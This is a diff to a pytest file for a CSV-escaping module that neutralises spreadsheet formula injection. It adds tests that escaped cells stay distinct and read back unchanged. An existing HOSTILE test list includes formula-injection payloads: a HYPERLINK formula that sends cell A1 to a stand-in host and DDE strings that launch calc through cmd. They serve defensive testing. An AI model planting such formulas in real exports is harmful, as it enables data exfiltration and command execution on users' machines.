@@ -9,7 +9,7 @@ import io
 
 import pytest
 
-from service.csv_safe import csv_text, safe_cell
+from service.csv_safe import csv_text, safe_cell, spreadsheet_text
 
 HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "@SUM(1+1)*cmd|' /C calc'!A0",
            "=1+2+cmd|' /C calc'!A0", "+1+2", "-2+3+cmd|' /C calc'!A0", "\t=1+2", "\r=1+2", "\n=1",
@@ -65,3 +65,32 @@ def test_digits_a_spreadsheet_would_round_or_strip_stay_text(cell, written):
     text = csv_text([{"v": cell}], ["v"])
     (row,) = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))
     assert row["v"] == str(written)
+
+
+def _read_back(cell: str) -> str:
+    # How a program reading the CSV gets the value: one leading ' dropped,
+    # a ="digits" constant unwrapped; nothing else is changed.
+    if cell.startswith("'"):
+        return cell[1:]
+    if cell.startswith('="') and cell.endswith('"') and cell[2:-1].isdigit():
+        return cell[2:-1]
+    return cell
+
+
+def test_every_cell_stands_for_one_value():
+    # `=1+1` and `'=1+1` both came out as `'=1+1`.
+    values = ["=1+1", "'=1+1", "''=1+1", "'", "'plain", "plain", "-12.50", "'-12.50", "@SUM(A1)", "'@x",
+              "\t=1", "'\t=1", "26112000000000000101", '="26112000000000000101"', "'26112000000000000101",
+              "0123", "'0123", " =1", "\u200b=1"]
+    cells = [spreadsheet_text(safe_cell(v)) for v in values]
+    assert len(set(cells)) == len(values), cells
+    assert [_read_back(c) for c in cells] == values
+    assert safe_cell("=1+1") == "'=1+1" and safe_cell("'=1+1") == "''=1+1"
+
+
+def test_a_csv_file_round_trips_what_it_was_given():
+    rows = [{"buyer": v} for v in ("=1+1", "'=1+1", "'", "26112000000000000101", "北京'公司")]
+    text = csv_text(rows, ["buyer"])
+    assert text.startswith("\ufeff")
+    read = [_read_back(r["buyer"]) for r in csv.DictReader(io.StringIO(text[1:]))]
+    assert read == [r["buyer"] for r in rows]
